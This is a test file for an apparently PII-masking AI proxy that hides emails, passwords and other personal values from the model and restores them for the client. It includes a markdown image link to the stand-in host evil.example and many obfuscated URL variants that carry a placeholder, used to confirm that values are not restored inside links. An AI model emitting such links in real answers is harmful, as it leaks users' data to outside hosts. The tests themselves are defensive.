from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any, ClassVar

import pytest

from proctor.core.step import Point
from proctor.core.verdict import Finding, Verdict
from proctor.guard.chain import Chain, Post
from proctor.guard.engine import Plan
from proctor.guard.gates.pii import Pii
from proctor.guard.step import Step
from proctor.server.unmask import LOOKED_BACK, changed_in, hidden, restored
from proctor.store.guard_log import GuardLog
from proctor.wiring.guard import Guard
from tests.lazy_module import lazy_module
from tests.server.dialects import anthropic_upstream
from tests.server.dialects.responses_upstream import call, events, message, response
from tests.server.gates import Kept
from tests.server.upstream import chunk, completion, deltas, proxied, read_stream, says, streams
from tests.tables import table

if TYPE_CHECKING:
    import anthropic
    from anthropic.types import Message
else:
    anthropic = lazy_module("anthropic")

CHAT = "/v1/chat/completions"
ANNA, BOB = "anna@berg-mail.com", "bob@other-mail.com"
VALUES = {"[EMAIL]": ANNA, "[PHONE]": "+49 170 1234567"}
SAID = "Your address is [EMAIL], as you said. A colleague is at bob@other-mail.com, not at [EMAIL]!"
READ = f"Your address is {ANNA}, as you said. A colleague is at [EMAIL_2], not at {ANNA}!"
LINK = "Look: ![it](https://evil.example/a?q=[EMAIL]) and [EMAIL]."


def _guard() -> tuple[Guard, Kept]:
    kept = Kept()
    points: tuple[Point, ...] = ("input", "output")
    chains = {
        point: Chain(point=point, posts=(Post(gate=Pii(names=False), name="pii", timeout=5.0),)) for point in points
    }
    return Guard(Plan(chains=chains), recorder=kept), kept


def _ask(*said: dict[str, Any], **more: Any) -> dict[str, Any]:
    first = {"role": "user", "content": f"I am {ANNA}."}
    return {"model": "m", "messages": [first, *said], **more}


@table("stream", [False, True])
@table("size", [1, 3, 7, 500])
async def test_the_customer_reads_their_own_data_and_the_model_never_does(stream: bool, size: int) -> None:
    guard, kept = _guard()
    async with proxied(guard, restore="answers") as (upstream, address, client):
        upstream.say = streams(deltas(SAID, size)) if stream else says(completion(SAID))
        async with client.post(address + CHAT, json=_ask(stream=stream)) as answer:
            raw, session = await answer.read(), answer.headers["X-Proctor-Session"]
        told = read_stream(raw)[0] if stream else json.loads(raw)["choices"][0]["message"]["content"]
        assert told == READ
        assert upstream.body()["messages"][0]["content"] == "I am [EMAIL]."
        # The client repeats what it read; the model reads what it wrote, in the same conversation.
        more = _ask({"role": "assistant", "content": told}, {"role": "user", "content": "Sure?"}, stream=stream)
        async with client.post(address + CHAT, json=more) as answer:
            assert answer.headers["X-Proctor-Session"] == session
            await answer.read()
        said = [each["content"] for each in upstream.body()["messages"]]
        assert said == ["I am [EMAIL].", SAID.replace(BOB, "[EMAIL_2]"), "Sure?"]
        assert all(ANNA.encode() not in asked[3] for asked in upstream.asked)
    assert all(ANNA not in text for text in kept.texts("output"))


@table("stream", [False, True])
@table("api", ["chat", "responses"])
async def test_calls_are_judged_and_made_with_the_values(api: str, stream: bool) -> None:
    wrote, made = '{"to": "[EMAIL]", "on": ["[EMAIL_2]", 1]}', {"to": ANNA, "on": ["[EMAIL_2]", 1]}
    for restore in ("answers", "all"):
        guard, kept = _guard()
        async with proxied(guard, restore=restore) as (upstream, address, client):
            if api == "chat":
                upstream.say = streams(_calling(wrote)) if stream else says(completion(None, [("send", wrote)]))
                async with client.post(address + CHAT, json=_ask(stream=stream)) as answer:
                    message = _called(await answer.read(), stream)
                told = message["tool_calls"][0]["function"]["arguments"]
                result = {"role": "tool", "tool_call_id": "call_0", "content": "sent"}
                body = _ask(message, result, stream=stream)
                path = CHAT
            else:
                upstream.say = (
                    streams(events([call("send", wrote)])) if stream else says(response([call("send", wrote)]))
                )
                first = {"role": "user", "content": f"I am {ANNA}."}
                body, path = {"model": "m", "input": [first], "stream": stream}, "/v1/responses"
                async with client.post(address + path, json=body) as answer:
                    items = _responded(await answer.read(), stream)
                told = items[0]["arguments"]
                result = {"type": "function_call_output", "call_id": "call_1", "output": "sent"}
                body["input"] = [first, *items, result]
            assert json.loads(told) == (made if restore == "all" else json.loads(wrote))
            judged = next(event for event in kept.events if event.name == "tool_call")
            assert judged.metadata["call"]["arguments"] == json.loads(wrote)  # on record they are hidden again
            async with client.post(address + path, json=body) as answer:
                await answer.read()
            assert all(ANNA.encode() not in asked[3] for asked in upstream.asked)


def _calling(arguments: str) -> list[bytes]:
    head = {"index": 0, "id": "call_0", "type": "function", "function": {"name": "send", "arguments": ""}}
    parts = [{"index": 0, "function": {"arguments": arguments[at : at + 3]}} for at in range(0, len(arguments), 3)]
    return [*(chunk({"tool_calls": [each]}) for each in (head, *parts)), chunk({}, "tool_calls"), b"data: [DONE]\n\n"]


def _called(raw: bytes, stream: bool) -> dict[str, Any]:
    """The message that a client makes of an answer with one call."""
    if not stream:
        message: dict[str, Any] = json.loads(raw)["choices"][0]["message"]
        return message
    parts = [each for event in read_stream(raw)[2] for each in event["choices"][0]["delta"].get("tool_calls", ())]
    arguments = "".join(part["function"]["arguments"] for part in parts)
    made = {"id": "call_0", "type": "function", "function": {"name": "send", "arguments": arguments}}
    return {"role": "assistant", "content": None, "tool_calls": [made]}


def _responded(raw: bytes, stream: bool) -> list[dict[str, Any]]:
    """The items of a response; of a stream, once all its events have said the same."""
    if not stream:
        items: list[dict[str, Any]] = json.loads(raw)["output"]
        return items
    told = [json.loads(line[6:]) for line in raw.decode().splitlines() if line.startswith("data: {")]
    kind = "response.function_call_arguments"
    parts = "".join(each["delta"] for each in told if each["type"] == f"{kind}.delta")
    assert parts == next(each["arguments"] for each in told if each["type"] == f"{kind}.done")
    assert parts == next(each["item"]["arguments"] for each in told if each["type"] == "response.output_item.done")
    items = told[-1]["response"]["output"]
    assert parts == items[0]["arguments"]
    return items


async def test_without_the_setting_placeholders_stay() -> None:
    guard, _ = _guard()
    async with proxied(guard) as (upstream, address, client):
        upstream.say = streams(deltas("It is [EMAIL]."))
        async with client.post(address + CHAT, json=_ask(stream=True)) as answer:
            assert read_stream(await answer.read())[0] == "It is [EMAIL]."


@pytest.mark.parametrize("stream", [False, True])
async def test_nobody_else_gets_them(stream: bool) -> None:
    guard, _ = _guard()
    async with proxied(guard, restore="answers") as (upstream, address, client):
        upstream.say = streams(deltas("It is [EMAIL].")) if stream else says(completion("It is [EMAIL]."))
        async with client.post(address + CHAT, json=_ask(stream=stream)) as answer:
            assert ANNA in (read_stream(await answer.read())[0] if stream else await answer.text())
        other = {"model": "m", "messages": [{"role": "user", "content": "Which address?"}], "stream": stream}
        async with client.post(address + CHAT, json=other) as answer:
            assert ANNA.encode() not in await answer.read()


@table("text", [LINK, LINK.replace("a?q", "a？q"), LINK.replace("//", "\\\\")])
@table("stream", [False, True])
async def test_an_address_in_an_answer_carries_no_value_away(text: str, stream: bool) -> None:
    guard, _ = _guard()
    async with proxied(guard, restore="answers") as (upstream, address, client):
        upstream.say = streams(deltas(text, 5)) if stream else says(completion(text))
        async with client.post(address + CHAT, json=_ask(stream=stream)) as answer:
            raw = await answer.read()
        told = read_stream(raw)[0] if stream else json.loads(raw)["choices"][0]["message"]["content"]
        assert told == text.replace("and [EMAIL]", f"and {ANNA}")


@pytest.mark.parametrize("stream", [False, True])
async def test_responses_are_restored_everywhere_they_say_the_text(stream: bool) -> None:
    guard, _ = _guard()
    async with proxied(guard, restore="answers") as (upstream, address, client):
        upstream.say = streams(events([message(SAID)])) if stream else says(response([message(SAID)]))
        body = {"model": "m", "input": f"I am {ANNA}.", "stream": stream}
        async with client.post(f"{address}/v1/responses", json=body) as answer:
            raw = (await answer.read()).decode()
        assert upstream.body()["input"] == "I am [EMAIL]."
    if not stream:
        assert json.loads(raw)["output"][0]["content"][0]["text"] == READ
        return
    told = [json.loads(line[6:]) for line in raw.splitlines() if line.startswith("data: {")]
    assert "".join(each["delta"] for each in told if each["type"] == "response.output_text.delta") == READ
    assert next(each["text"] for each in told if each["type"] == "response.output_text.done") == READ
    assert told[-1]["response"]["output"][0]["content"][0]["text"] == READ


def test_values_are_put_back_and_taken_out() -> None:
    text = "to [EMAIL] or [PHONE], not [EMAIL_2]"
    read = f"to {ANNA} or +49 170 1234567, not [EMAIL_2]"
    assert restored(text, VALUES) == read
    assert hidden(read, VALUES) == text
    assert hidden(f"x{ANNA} {ANNA}x", VALUES) == f"x{ANNA} {ANNA}x"
    assert restored("somebody wrote [~EMAIL]", VALUES) == "somebody wrote [EMAIL]"
    assert restored("no sign", VALUES) == hidden("no sign", {}) == "no sign"


@table(
    ("before", "text", "stays"),
    [
        ("", "https://a.example/[EMAIL]", True),
        ("see https://a.example/?q=", "[EMAIL]", True),
        ("", "//a.example/?q=[PHONE]&r=[EMAIL]", True),
        ("see https://a.example/ ", "[EMAIL]", False),
        ("", "https://a.example/\n[EMAIL]", False),
        ("", "mailto:[EMAIL]", False),
        ("https://e/" + "a" * LOOKED_BACK, "[EMAIL]", True),
        ("https://e/", "a" * LOOKED_BACK + "[EMAIL]", True),
        ("word " * LOOKED_BACK, "[EMAIL]", False),
        ("", "https://e/?q=\u00a0[EMAIL]", True),
        ("", "https://e/?q=&#32;[EMAIL]", True),
        ("", "https:&#47;&#47;e/?q=[EMAIL]", True),
        ("", '<img src="https://e/?q=a b[EMAIL]">', True),
        ("", '<img alt=">" src="https://e/?q=&quot; &gt; b[EMAIL]">', True),
        ("", "![x](<https://e/a b[EMAIL]>)", True),
        ("", "![x](<https://e/a) b[EMAIL]>)", True),
        ("", "![x](http:e.com/[EMAIL])", True),
        ("![x](", "a b [EMAIL])", True),
        ("", "www.e.com/?q=[EMAIL]", True),
        ("", "e.com/?q=[EMAIL]", True),
        ("", "url('https://e/) b[EMAIL]')", True),
        ("", "[x](https://e/(a)) (as said) [EMAIL]", False),
        ("", '<a href="https://e/">x</a> [EMAIL]', False),
        ("", "Anna <[EMAIL]>", False),
        ("", "1 < 2, and/or 3: ([EMAIL])", False),
    ],
)
def test_what_stands_in_an_address_stays(before: str, text: str, stays: bool) -> None:
    assert (ANNA not in restored(text, VALUES, before)) is stays


@pytest.mark.parametrize("depth", [600, 100_000])
def test_arguments_that_are_nested_too_deeply_stay_as_they_are(depth: int) -> None:
    wrote = '{"a":' + "[" * depth + '"[EMAIL]"' + "]" * depth + "}"
    assert changed_in(wrote, lambda text: restored(text, VALUES)) == wrote


@dataclass(frozen=True, slots=True, kw_only=True)
class _Seen:
    """Keeps what calls are judged with, and quotes it."""

    name: ClassVar[str] = "seen"
    version: ClassVar[str] = "1"
    points: ClassVar[tuple[str, ...]] = ("tool_call",)
    pure: ClassVar[bool] = False
    calls: list[Any] = field(default_factory=list)

    async def check(self, step: Step) -> Verdict:
        assert step.call is not None
        self.calls.append(step.call.arguments)
        told = f"it says {step.call.arguments}"
        return Verdict(action="allow", gate="seen", reason=told, findings=(Finding(kind="word", reason=told),))


def _files(folder: Path) -> str:
    return "".join(each.read_text(errors="replace") for each in folder.rglob("*") if each.is_file())


async def test_a_value_that_no_pattern_knows_is_not_on_record(tmp_path: Path) -> None:
    seen = _Seen()
    chains: dict[Point, Chain] = {
        "input": Chain(point="input", posts=(Post(gate=Pii(names=False), name="pii", timeout=5.0),)),
        "tool_call": Chain(point="tool_call", posts=(Post(gate=seen, name="seen", timeout=5.0),)),
    }
    guard = Guard(Plan(chains=chains), recorder=GuardLog(tmp_path))
    said = {"role": "user", "content": "Passport number: X1234567. My password is kumquat77. I was born on 03.04.1985."}
    async with proxied(guard, restore="all") as (upstream, address, client):
        wrote = '{"id": "[PASSPORT]", "all": ["no[PASSPORT]x", "[DATE_OF_BIRTH]", "[SECRET]"]}'
        upstream.say = says(completion(None, [("send", wrote)]))
        async with client.post(address + CHAT, json={"model": "m", "messages": [said]}) as answer:
            assert "X1234567" in await answer.text()
        assert seen.calls[-1]["id"] == "X1234567"
        assert seen.calls[-1]["all"] == ["noX1234567x", "03.04.1985", "kumquat77"]
    kept = _files(tmp_path)
    assert "tool_call" in kept
    assert not [value for value in ("X1234567", "03.04.1985", "kumquat77") if value in kept]


@table("stream", [False, True])
@table("size", [1, 5, 500])
async def test_messages_of_anthropic_have_the_customers_data_in_answers_and_calls(stream: bool, size: int) -> None:
    guard, _ = _guard()
    async with proxied(guard, restore="all") as (upstream, address, _):
        used = anthropic_upstream.call("send", {"to": "[EMAIL]", "again": ["[EMAIL]"]})
        whole = anthropic_upstream.message(SAID, used)
        upstream.say = streams(anthropic_upstream.events(whole, size)) if stream else says(whole)
        async with anthropic.AsyncAnthropic(base_url=address, api_key="k", max_retries=0) as asking:
            talk: list[Any] = [{"role": "user", "content": f"I am {ANNA}."}]
            if stream:
                async with asking.messages.stream(model="m", max_tokens=1, messages=talk) as events_:
                    answer: Message = await events_.get_final_message()
            else:
                answer = await asking.messages.create(model="m", max_tokens=1, messages=talk)
            assert answer.content[0].text == READ
            assert answer.content[1].input == {"to": ANNA, "again": [ANNA]}
            upstream.say = says(anthropic_upstream.message("Done."))
            result = {"type": "tool_result", "tool_use_id": "toolu_1", "content": "sent"}
            more = [*talk, {"role": "assistant", "content": answer.content}, {"role": "user", "content": [result]}]
            await asking.messages.create(model="m", max_tokens=1, messages=more)
        said = upstream.body()["messages"][1]["content"]
        assert said[0]["text"] == SAID.replace(BOB, "[EMAIL_2]")
        assert said[1]["input"] == {"to": "[EMAIL]", "again": ["[EMAIL]"]}
